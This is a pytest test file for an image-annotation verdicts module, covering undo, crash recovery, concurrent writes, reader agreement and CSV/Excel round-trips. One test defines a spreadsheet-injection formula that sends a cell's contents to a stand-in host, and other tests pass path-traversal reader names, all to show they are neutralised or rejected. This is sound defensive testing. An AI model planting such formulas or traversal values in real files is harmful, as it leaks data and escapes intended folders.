"""What readers decided: nothing is lost to a second process, a crash or an undo."""

import csv
import json
import os
import stat
import subprocess
import sys

import pandas as pd
import pytest
from fabricate import damage, fabricate
from queueing import PATIENCE_SECONDS

from colora.distillation.verdicts import (
    agreement,
    class_title,
    current,
    decide,
    journal,
    judge,
    own_reader,
    problems,
    readers,
    undo,
    verdicts_folder,
)
from colora.distillation.verdicts_csv import export_csv, import_csv
from colora.system.errors import UserError
from colora.system.installation import ROOT

DATA, OTHER = "d" * 64, "e" * 64


def standing(runs, **which):
    table = current(runs, **which)
    return {(row.reader, row.image_id): row.verdict for row in table.itertuples()}


def test_a_verdict_stands_until_another_or_an_undo(tmp_path):
    judge(tmp_path, "ann", DATA, "train/1", "artefact", note="shadow")
    judge(tmp_path, "ann", DATA, "train/2", "hard")
    judge(tmp_path, "ann", DATA, "train/1", "wrong_label", label=2)
    assert standing(tmp_path) == {("ann", "train/1"): "wrong_label", ("ann", "train/2"): "hard"}
    assert undo(tmp_path, "ann")["verdict"] == "wrong_label"
    row = current(tmp_path).iloc[0]
    assert (row["verdict"], row["note"], row["image_id"], row["data_checksum"]) == (
        "artefact",
        "shadow",
        "train/1",
        DATA,
    )
    assert undo(tmp_path, "ann", image_id="train/1")["verdict"] == "artefact"
    assert undo(tmp_path, "ann", data_checksum=OTHER) is None
    assert standing(tmp_path) == {("ann", "train/2"): "hard"}
    assert undo(tmp_path, "ann")["image_id"] == "train/2"
    assert undo(tmp_path, "ann") is None
    assert [event["action"] for event in journal(tmp_path, "ann").events] == ["judge"] * 3 + ["undo"] * 3


def test_undo_of_one_event_takes_back_that_or_nothing(tmp_path):
    """A verdict that was given elsewhere meanwhile is nobody's to take back unseen."""
    first = judge(tmp_path, "ann", DATA, "a", "fine", tab="one")
    second = judge(tmp_path, "ann", DATA, "a", "hard", tab="two")
    assert (first["tab"], current(tmp_path)["tab"].tolist()) == ("one", ["two"])
    assert current(tmp_path)["id"].tolist() == [second["id"]]
    with pytest.raises(UserError, match="ann has judged this image anew since, truly hard, in another window"):
        undo(tmp_path, "ann", DATA, "a", event_id=first["id"])
    assert standing(tmp_path) == {("ann", "a"): "hard"}
    assert undo(tmp_path, "ann", DATA, "a", event_id=second["id"]) == second
    with pytest.raises(UserError, match="ann's verdict was taken back already"):
        undo(tmp_path, "ann", DATA, "a", event_id=second["id"])
    assert undo(tmp_path, "ann", DATA, "a", event_id=first["id"]) == first
    with pytest.raises(UserError, match="ann's verdict was taken back already"):
        undo(tmp_path, "ann", DATA, "a", event_id=first["id"])
    assert len(journal(tmp_path, "ann").events) == 4


def test_lines_of_before_tabs_were_told_apart_stand_and_export_as_they_did(tmp_path):
    event = judge(tmp_path, "ann", DATA, "a", "hard", tab="one")
    path = verdicts_folder(tmp_path) / "ann.jsonl"
    path.write_text(json.dumps({name: value for name, value in event.items() if name != "tab"}) + "\n")
    assert standing(tmp_path) == {("ann", "a"): "hard"} and problems(tmp_path) == []
    export_csv(tmp_path, tmp_path / "out.csv")
    head = "reader,image_id,verdict,label,note,time,user,data_checksum,imported_by,seen"
    assert (tmp_path / "out.csv").read_text().splitlines()[0] == head
    assert undo(tmp_path, "ann")["image_id"] == "a"


def test_readers_and_data_sets_are_apart(tmp_path):
    judge(tmp_path, "ann", DATA, "a", "fine")
    judge(tmp_path, "bob", DATA, "a", "artefact")
    judge(tmp_path, "bob", OTHER, "a", "hard")
    assert readers(tmp_path) == ["ann", "bob"]
    assert standing(tmp_path, data_checksum=DATA) == {("ann", "a"): "fine", ("bob", "a"): "artefact"}
    assert standing(tmp_path, reader="bob", data_checksum=OTHER) == {("bob", "a"): "hard"}
    assert current(tmp_path, reader="carl").empty


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        ({"verdict": "good"}, "There is no verdict 'good': known are wrong_label, artefact, hard, fine."),
        ({"verdict": "hard", "label": 1}, "A right class goes with the verdict wrong_label, not with hard."),
        ({"label": -1}, "The right class is a class number from 0 on, got -1."),
        ({"reader": "../ann"}, "'../ann' cannot name a reader"),
        ({"image_id": ""}, "A verdict names an image"),
        ({"note": "x" * 2001}, "A note has up to 2,000 characters; this one has 2,001."),
    ],
)
def test_what_is_no_verdict_is_said_and_writes_nothing(tmp_path, change, sentence):
    values = {"reader": "ann", "data_checksum": DATA, "image_id": "a", "verdict": "wrong_label", **change}
    with pytest.raises(UserError, match=sentence.replace("(", r"\(")):
        judge(tmp_path, **values)
    assert readers(tmp_path) == []


def test_a_name_at_the_keyboard_becomes_a_readers_name(monkeypatch):
    monkeypatch.setenv("COLORA_USER", "Dr. Ann Müller <ann@clinic.org>")
    assert own_reader() == "Dr.-Ann-M-ller-ann-clinic.org-"
    monkeypatch.setenv("COLORA_USER", "../..")
    assert own_reader() == "reader"


@pytest.mark.parametrize("torn", [b'{"id": "5", "action": "ju', b"\xff\xfe"])
def test_half_a_last_line_is_said_left_out_and_damages_nothing_further(tmp_path, torn):
    judge(tmp_path, "ann", DATA, "a", "hard")
    path = verdicts_folder(tmp_path) / "ann.jsonl"
    with open(path, "ab") as file:
        file.write(torn)
    assert standing(tmp_path) == {("ann", "a"): "hard"}
    assert problems(tmp_path) == [
        f"{path}, line 2, is cut off (a crash, or it is being written now) and was left out; the other lines count."
    ]
    judge(tmp_path, "ann", DATA, "b", "fine")
    assert standing(tmp_path) == {("ann", "a"): "hard", ("ann", "b"): "fine"}
    assert problems(tmp_path) == [f"{path}, line 2, is no event and was left out; the other lines count."]


@pytest.mark.parametrize(
    "change",
    [
        {"action": "undo"},  # of nothing
        {"action": "undo", "undoes": 5},
        {"action": "move"},
        {"verdict": "good"},
        {"label": "CNV"},
        {"label": -1},
        {"verdict": "hard", "label": 1},
        {"note": None},
        {"time": None},
        {"imported": "yes"},
        {"tab": 5},
        {"image_id": ["a"]},
    ],
)
def test_a_line_that_lacks_what_its_action_needs_is_said_and_left_out(tmp_path, change):
    event = judge(tmp_path, "ann", DATA, "a", "wrong_label")
    path = verdicts_folder(tmp_path) / "ann.jsonl"
    with open(path, "a") as file:
        file.write(json.dumps(event | {"id": "other", "image_id": "b"} | change) + "\n")
    assert standing(tmp_path) == {("ann", "a"): "wrong_label"}
    assert problems(tmp_path) == [f"{path}, line 2, is no event and was left out; the other lines count."]
    assert undo(tmp_path, "ann")["image_id"] == "a"


def test_a_verdict_is_on_the_disk_before_judge_returns(tmp_path, monkeypatch):
    synced, fsync = [], os.fsync

    def noted(handle):
        fsync(handle)
        synced.append((stat.S_ISDIR(os.fstat(handle).st_mode), path.read_text().count("\n") if path.exists() else 0))

    path = verdicts_folder(tmp_path) / "ann.jsonl"
    monkeypatch.setattr(os, "fsync", noted)
    judge(tmp_path, "ann", DATA, "a", "hard")
    assert synced == [(False, 1), (True, 1)]  # the line, and the folder that has a new file in it
    judge(tmp_path, "ann", DATA, "b", "hard")
    undo(tmp_path, "ann")
    assert synced[2:] == [(False, 2), (False, 3)]


def test_processes_of_two_readers_and_of_one_lose_nothing(tmp_path):
    script = """
import sys
from pathlib import Path
from colora.distillation.verdicts import judge, undo
runs, reader, mark = Path(sys.argv[1]), sys.argv[2], sys.argv[3]
print("ready", flush=True)
sys.stdin.readline()
for i in range(20):
    judge(runs, reader, "d" * 64, f"{mark}-{i}", "hard", note="n" * 300)
    if i % 10 == 9:
        judge(runs, reader, "d" * 64, f"{mark}-{i}", "fine")
"""
    started = [
        subprocess.Popen(
            [sys.executable, "-c", script, str(tmp_path), reader, mark],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT,
        )
        for reader, mark in (("ann", "x"), ("ann", "y"), ("bob", "z"))
    ]  # fmt: skip
    for process in started:
        assert process.stdout.readline() == "ready\n"
    for process in started:
        process.communicate("go\n", timeout=PATIENCE_SECONDS)
        assert process.returncode == 0
    assert problems(tmp_path) == []
    found = standing(tmp_path)
    assert len(found) == 60
    assert sum(verdict == "fine" for verdict in found.values()) == 6
    assert len(journal(tmp_path, "ann").events) == 44
    lines = (verdicts_folder(tmp_path) / "ann.jsonl").read_text().splitlines()
    assert len({json.loads(line)["id"] for line in lines}) == 44


def test_cohens_kappa_of_two_readers(tmp_path):
    ann = ["artefact"] * 4 + ["hard"] * 4 + ["fine"] * 2
    bob = ["artefact"] * 3 + ["hard"] + ["hard"] * 3 + ["fine"] + ["fine"] * 2
    for i, (a, b) in enumerate(zip(ann, bob, strict=True)):
        judge(tmp_path, "ann", DATA, f"i{i}", a)
        judge(tmp_path, "bob", DATA, f"i{i}", b)
    judge(tmp_path, "ann", DATA, "alone", "fine")
    found = agreement(tmp_path, "ann", "bob")
    by_chance = (4 * 3 + 4 * 4 + 2 * 3) / 100
    assert (found["n"], found["agreed"]) == (10, 0.8)
    assert found["kappa"] == pytest.approx((0.8 - by_chance) / (1 - by_chance))
    assert found["says"] == "ann and bob agree on 8 of 10 images both judged; Cohen's kappa 0.70."
    assert found["table"]["artefact"] == {"artefact": 3, "hard": 1}


def test_kappa_where_it_is_not_defined_and_wrong_labels_that_differ(tmp_path):
    judge(tmp_path, "ann", DATA, "a", "wrong_label", label=1)
    judge(tmp_path, "bob", DATA, "b", "fine")
    assert agreement(tmp_path, "ann", "bob")["says"] == "ann and bob have judged no image both."
    judge(tmp_path, "bob", DATA, "a", "wrong_label", label=1)
    found = agreement(tmp_path, "ann", "bob")
    assert (found["kappa"], found["agreed"]) == (None, 1.0)
    judge(tmp_path, "bob", DATA, "a", "wrong_label", label=2)
    assert agreement(tmp_path, "ann", "bob")["agreed"] == 0.0
    with pytest.raises(UserError, match=r"There is no reader 'eve' .* there are: ann, bob"):
        agreement(tmp_path, "ann", "eve")


def test_what_several_readers_come_to(tmp_path):
    for reader, image, verdict, label in (
        ("ann", "agreed", "wrong_label", 2), ("bob", "agreed", "wrong_label", 2),
        ("ann", "contradicted", "wrong_label", 2), ("bob", "contradicted", "fine", None),
        ("ann", "unknown", "wrong_label", None), ("bob", "one word", "artefact", None),
        ("ann", "one word", "fine", None),
        ("ann", "two classes", "wrong_label", 2), ("bob", "two classes", "wrong_label", 1),
        ("ann", "called hard", "wrong_label", 2), ("bob", "called hard", "hard", None),
        ("ann", "not sure", "wrong_label", 2), ("bob", "not sure", "wrong_label", None),
        ("ann", "spoilt too", "wrong_label", 3), ("bob", "spoilt too", "artefact", None),
    ):  # fmt: skip
        judge(tmp_path, reader, DATA, image, verdict, label)
    decision = decide(current(tmp_path, DATA))
    assert decision.labels == {"agreed": 2, "not sure": 2, "spoilt too": 3}  # nobody holds the given one for right
    assert decision.contradicted == ["called hard", "contradicted", "two classes"]
    assert decision.unnamed == ["unknown"]
    assert decision.said["one word"] == {"artefact", "fine"}


def test_a_right_class_that_the_data_do_not_have_is_said_by_its_number():
    assert [class_title(c, ["A", "B"]) for c in (1, 2, -1)] == ["B", "class 2, unknown", "class -1, unknown"]


def test_csv_goes_out_and_comes_back_once(tmp_path):
    judge(tmp_path / "a", "ann", DATA, "tr/ä,1", "wrong_label", 3, 'says "CNV",\nsure')
    judge(tmp_path / "a", "bob", DATA, "tr/2", "hard")
    file = tmp_path / "verdicts.csv"
    assert export_csv(tmp_path / "a", file) == 2
    assert import_csv(tmp_path / "b", file) == {"added": 2, "known": 0}
    assert import_csv(tmp_path / "b", file) == {"added": 0, "known": 2}
    content = ["reader", "image_id", "verdict", "label", "note", "data_checksum", "time", "user"]
    assert current(tmp_path / "b")[content].equals(current(tmp_path / "a")[content])
    assert import_csv(tmp_path / "b", file, reader="carl") == {"added": 2, "known": 0}
    assert export_csv(tmp_path / "b", file, reader="carl") == 2


def test_a_file_of_verdicts_comes_back_from_whatever_a_spreadsheet_makes_of_it(tmp_path):
    judge(tmp_path / "a", "ann", DATA, "tr/ä,1", "wrong_label", 3, 'says "CNV";\nsure')
    judge(tmp_path / "a", "bob", DATA, "+2", "hard", None, "=1+1")
    export_csv(tmp_path / "a", file := tmp_path / "verdicts.csv")
    table = pd.read_csv(file, dtype=str, keep_default_na=False)
    table.to_excel(tmp_path / "verdicts.xlsx", index=False)
    table.to_csv(tmp_path / "semicolons.csv", sep=";", index=False, encoding="utf-8-sig")
    table.to_csv(tmp_path / "windows.csv", sep=";", index=False, encoding="cp1252")
    table.to_csv(tmp_path / "unicode.txt", sep="\t", index=False, encoding="utf-16")
    content = ["reader", "image_id", "verdict", "label", "note", "data_checksum", "time", "user"]
    for name in ("verdicts.xlsx", "semicolons.csv", "windows.csv", "unicode.txt"):
        assert import_csv(tmp_path / name.partition(".")[0], (tmp_path / name).read_bytes()) == {"added": 2, "known": 0}
        assert current(tmp_path / name.partition(".")[0])[content].equals(current(tmp_path / "a")[content])


def test_a_line_is_counted_as_an_editor_does_and_a_row_as_a_spreadsheet(tmp_path):
    table = pd.DataFrame(
        {"reader": "ann", "image_id": ["a", "b"], "verdict": ["hard", "odd"], "data_checksum": DATA, "note": ["\n", ""]}
    )
    for separator in ",;\t":
        with pytest.raises(UserError, match="Line 4 of the file: There is no verdict 'odd'"):
            import_csv(tmp_path, table.to_csv(index=False, sep=separator).encode())
    table.to_excel(tmp_path / "verdicts.xlsx", index=False)
    with pytest.raises(UserError, match="Row 3 of the file: There is no verdict 'odd'"):
        import_csv(tmp_path, tmp_path / "verdicts.xlsx")
    assert readers(tmp_path) == []


FORMULA = '=HYPERLINK("http://example.org/"&A1,"open")'


def test_an_export_holds_no_formula_and_comes_back_exactly(tmp_path):
    notes = (FORMULA, f"'{FORMULA}", "'t Hooft", "-1", "a\r=1+1", "\t@SUM(1)")
    for number, note in enumerate(notes):
        judge(tmp_path / "a", "ann", DATA, f"+{number}", "hard", None, note)
    export_csv(tmp_path / "a", file := tmp_path / "verdicts.csv")
    with open(file, newline="", encoding="utf-8") as text:
        rows = list(csv.reader(text))
    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r"))]
    assert import_csv(tmp_path / "b", file) == {"added": len(notes), "known": 0}
    assert current(tmp_path / "b")[["image_id", "note"]].equals(current(tmp_path / "a")[["image_id", "note"]])
    assert current(tmp_path / "b")["note"].tolist() == list(notes)


def test_an_imported_verdict_keeps_its_time_and_user_and_names_who_imported_it(tmp_path, monkeypatch):
    head = "reader,image_id,verdict,data_checksum,time,user\n"
    file = tmp_path / "in.csv"
    file.write_text(f"{head}ann,a,hard,{DATA},2026-01-31T13:00:00+01:00,ann@clinic\nann,b,fine,{DATA},,\n")
    monkeypatch.setenv("COLORA_USER", "carl")
    import_csv(tmp_path, file, reader="bob")
    rows = current(tmp_path).set_index("image_id")
    assert rows.loc["a", ["reader", "time", "user", "imported_by"]].tolist() == [
        "bob", "2026-01-31T12:00:00.000Z", "ann@clinic", "carl"
    ]  # fmt: skip
    imported = journal(tmp_path, "bob").events[0]["imported"]
    assert imported["by"] == "carl" and imported["time"] > "2026-01-31T12:00:00.000Z"
    assert rows.loc["b", "user"] == "carl" and rows.loc["b", "time"] >= imported["time"]
    judge(tmp_path, "bob", DATA, "b", "hard")
    assert current(tmp_path).set_index("image_id")["imported_by"].isna().to_dict() == {"a": False, "b": True}


def test_a_verdict_that_was_imported_before_that_was_noted_is_read(tmp_path):
    event = judge(tmp_path, "ann", DATA, "a", "hard") | {"imported": True}
    (verdicts_folder(tmp_path) / "ann.jsonl").write_text(json.dumps(event) + "\n")
    assert current(tmp_path)["imported_by"].isna().all() and problems(tmp_path) == []


def test_a_class_that_the_data_do_not_have_is_not_imported(tmp_path):
    fabricate(tmp_path, "four-classes", ["done"])
    damage(fabricate(tmp_path, "damaged", ["done"]))
    (fabricate(tmp_path, "no-seeds", ["done"]).path / "group.json").write_text("{}")
    head = "reader,image_id,verdict,data_checksum,label\n"
    file = tmp_path / "in.csv"
    file.write_text(f"{head}ann,a,wrong_label,{'0' * 64},3\nann,b,wrong_label,{'0' * 64},4\n")
    sentence = "Line 3 of the file: There is no class 4 in these data, whose classes are 0 to 3."
    with pytest.raises(UserError, match=sentence):
        import_csv(tmp_path, file)
    assert readers(tmp_path) == []
    file.write_text(f"{head}ann,a,wrong_label,{'0' * 64},3\nann,b,wrong_label,{OTHER},4\n")  # data nobody knows
    assert import_csv(tmp_path, file) == {"added": 2, "known": 0}


@pytest.mark.parametrize(
    ("lines", "sentence"),
    [
        ("reader,verdict,data_checksum\nann,hard,d\n", "The file lacks the column image_id"),
        (
            "reader,image_id,verdict,data_checksum\nann,a,hard,d\nann,b,odd,d\n",
            "Line 3 of the file: There is no verdict",
        ),
        ("reader,image_id,verdict,data_checksum\n.ann,a,hard,d\n", "Line 2 of the file: '.ann' cannot name a reader"),
        (
            "reader,image_id,verdict,data_checksum,label\nann,a,wrong_label,d,CNV\n",
            "Line 2 of the file: a right class is",
        ),
        (
            "reader,image_id,verdict,data_checksum,time\nann,a,hard,d,yesterday\n",
            "Line 2 of the file: the time of a verdict is such as",
        ),
        ("", "The file cannot be read as CSV"),
    ],
)
def test_a_file_that_is_wrong_somewhere_adds_nothing(tmp_path, lines, sentence):
    file = tmp_path / "in.csv"
    file.write_text(lines)
    with pytest.raises(UserError, match=sentence):
        import_csv(tmp_path, file)
    assert readers(tmp_path) == []


def test_what_is_no_file_is_written_into_and_not_replaced(tmp_path, capsys):
    """`colora verdicts export /dev/stdout`, as root too, and a link that somebody has made."""
    judge(tmp_path, "ann", DATA, "a", "hard")
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to("real.csv")
    assert export_csv(tmp_path, tmp_path / "link.csv") == 1
    assert (tmp_path / "link.csv").is_symlink() and (tmp_path / "real.csv").read_text().count("\n") == 2
    reading, writing = os.pipe()
    with open(reading) as pipe:
        assert export_csv(tmp_path, f"/dev/fd/{writing}") == 1
        os.close(writing)
        assert pipe.read() == (tmp_path / "real.csv").read_text()


def test_a_pipe_that_nobody_writes_or_reads_is_no_wait_for_ever(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(UserError, match="The file cannot be read as CSV"):
        import_csv(tmp_path, tmp_path / "pipe")
    with pytest.raises(UserError, match=r"pipe could not be written \(No such device or address\)"):
        export_csv(tmp_path, tmp_path / "pipe")


def test_where_nobody_has_judged_that_is_said(tmp_path):
    with pytest.raises(UserError, match=r"There is no reader 'ann' .*; nobody has given a verdict yet\."):
        agreement(tmp_path, "ann", "bob")
